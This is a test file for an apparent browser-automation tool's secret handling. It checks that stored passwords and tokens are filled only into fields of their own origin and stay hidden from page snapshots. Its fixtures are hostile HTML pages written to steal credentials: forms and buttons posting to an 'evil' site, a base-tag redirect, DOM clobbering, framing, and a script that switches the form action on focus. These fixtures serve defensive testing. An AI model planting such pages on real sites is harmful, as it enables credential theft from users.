import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { ActionResult, Locator } from '../../../src/core/index.js';
import { mintSecret } from '../../../src/core/seals/secret-mint.js';
import { html, startSite } from '../../fixtures/site.js';
import type { Site } from '../../fixtures/site.js';
import { codeOf, createPageSetup, the } from './page-setup.js';
import type { PageSetup } from './page-setup.js';

const VALUE = 'correct-Horse7battery';
const SHOW = `<button onclick="document.querySelector('input').type = 'text'">Show</button>`;

let stage: PageSetup;
let site: Site;
let evil: Site;

beforeAll(async () => {
  evil = await startSite({
    '/frame': html('<input id=f type=password>'),
    '/around': (_, response) =>
      response.setHeader('content-type', 'text/html').end(html(`<iframe src="${site.url('/plain')}"></iframe>`)),
  });
  site = await startSite({
    '/plain': html(`<form action=/in><input id=f name=p type=password></form>${SHOW}`),
    '/text': html('<input id=f>'),
    '/hint': html('<label>Password hint <input id=f></label>'),
    '/shown': html('<input id=f autocomplete=current-password>'),
    '/elsewhere': html(`<form action="${evil.url('/in')}"><input id=f type=password></form>`),
    '/button': html(
      `<form action=/in><input id=f type=password><button formaction="${evil.url('/in')}">Go</button></form>`,
    ),
    '/outer-button': html(
      `<form id=x action=/in><input id=f type=password></form><button form=x formaction="${evil.url('/')}">Go</button>`,
    ),
    '/base': html('<form action=in><input id=f type=password></form>', `<base href="${evil.url('/')}">`),
    '/clobbered': html(`<img name=baseURI><form action=/in><input id=f type=password><input name=action></form>`),
    '/letter': html(`<iframe srcdoc="<input id=f type=password>"></iframe>`),
    '/sandboxed': html('<iframe sandbox="allow-scripts" src="/plain"></iframe>'),
    '/foreign': html(`<iframe src="${evil.url('/frame')}"></iframe>`),
    '/own-frame': html('<iframe src="/plain"></iframe>'),
    '/swapping': html(`<form id=x action=/in><input id=f type=password></form>
      <script>f.addEventListener('focus', () => (x.action = '${evil.url('/in')}'))</script>`),
    '/rich': html('<div id=f contenteditable>here</div>'),
    '/script': html('<form action="javascript:void 0"><input id=f type=password></form>'),
  });
  stage = createPageSetup();
});
beforeEach(() => {
  const origins = [site.origin];
  stage.secrets.set('PASSWORD', mintSecret('PASSWORD', { value: VALUE, origins, use: 'password' }));
  stage.secrets.set('TOKEN', mintSecret('TOKEN', { value: VALUE, origins, use: 'any' }));
});
afterAll(async () => {
  await stage.close();
  await Promise.all([site.close(), evil.close()]);
});

const FIELD: Locator = { by: 'selector', selector: '#f' };
const put = (text: string, how: 'fill' | 'type' | 'press' | 'form' = 'fill'): Promise<ActionResult> =>
  stage.call([{ at: FIELD, intent: how === 'press' ? 'press' : 'type', text }], (page, [target]) => {
    if (how === 'type') return page.type(the(target), { clearFirst: false, submit: false });
    if (how === 'press') return page.press(text, the(target));
    return how === 'form' ? page.fillForm([the(target)], false) : page.fill(the(target));
  });

/** What the page itself would send. */
async function sent(): Promise<string> {
  site.seen.length = 0;
  await stage.call([{ at: FIELD, intent: 'press', text: 'Enter' }], (page, [target]) =>
    page.press('Enter', the(target)),
  );
  return site.seen.map(({ path }) => path).join(' ');
}

describe('a secret by its name', () => {
  it.each(['fill', 'type', 'press', 'form'] as const)('goes into a password field of its origin: %s', async (how) => {
    await stage.open(site.url('/plain'));
    const result = await put('<PASSWORD>', how);
    expect(result.ok).toBe(true);
    expect(JSON.stringify(result)).not.toContain(VALUE);
  });

  it.each([
    ['/own-frame', 'ok'],
    ['/shown', 'ok'],
    ['/script', 'ok'],
    ['/clobbered', 'ok'],
    ['/text', 'policy.secret-field'],
    ['/hint', 'policy.secret-field'],
    ['/rich', 'policy.secret-field'],
    ['/elsewhere', 'policy.secret-origin'],
    ['/button', 'policy.secret-origin'],
    ['/outer-button', 'policy.secret-origin'],
    ['/base', 'policy.secret-origin'],
    ['/letter', 'policy.secret-origin'],
    ['/sandboxed', 'policy.secret-origin'],
    ['/foreign', 'policy.secret-origin'],
  ])('at %s: %s', async (path, code) => {
    await stage.open(site.url(path));
    for (const how of ['fill', 'press', 'form'] as const) expect(await codeOf(put('<PASSWORD>', how)), how).toBe(code);
  });

  it('does not go into its own page inside a foreign one', async () => {
    await stage.open(evil.url('/around'));
    expect(await codeOf(put('<PASSWORD>'))).toBe('policy.secret-origin');
  });

  it('does not go where the form leads once it has the focus', async () => {
    await stage.open(site.url('/swapping'));
    expect(await codeOf(put('<PASSWORD>'))).not.toBe('ok');
  });

  it('of any use goes into text fields, and stays hidden there', async () => {
    await stage.open(site.url('/text'));
    expect(await codeOf(put('<TOKEN>'))).toBe('ok');
    expect(await stage.text()).not.toContain(VALUE);
    const { text } = await stage.call([], (page) => page.snapshot({ mode: 'full' }));
    expect(text).not.toContain(VALUE);
  });

  it('stays hidden after the field was made a text field', async () => {
    await stage.open(site.url('/plain'));
    await put('<PASSWORD>');
    await stage.click('Show');
    const { text } = await stage.call([], (page) => page.snapshot({ mode: 'full' }));
    expect(text).not.toContain(VALUE);
    const seen = await stage.call([{ at: FIELD, intent: 'look' }], (page, [target]) => page.inspect(the(target)));
    expect(JSON.stringify(seen)).not.toContain(VALUE);
  });

  it('arrives as it is', async () => {
    await stage.open(site.url('/plain'));
    await put('<PASSWORD>');
    expect(await sent()).toBe(`/in?p=${VALUE}`);
  });
});

describe('a name that nobody gave', () => {
  it('is text in a text field', async () => {
    await stage.open(site.url('/text'));
    expect(await codeOf(put('<DIV>'))).toBe('ok');
    expect(await codeOf(put('<DIV>', 'press'))).toBe('call.bad-arguments');
  });

  it.each(['fill', 'type', 'press', 'form'] as const)('is refused in a password field: %s', async (how) => {
    await stage.open(site.url('/plain'));
    expect(await codeOf(put('<DIV>', how))).toBe('policy.password-field');
  });
});
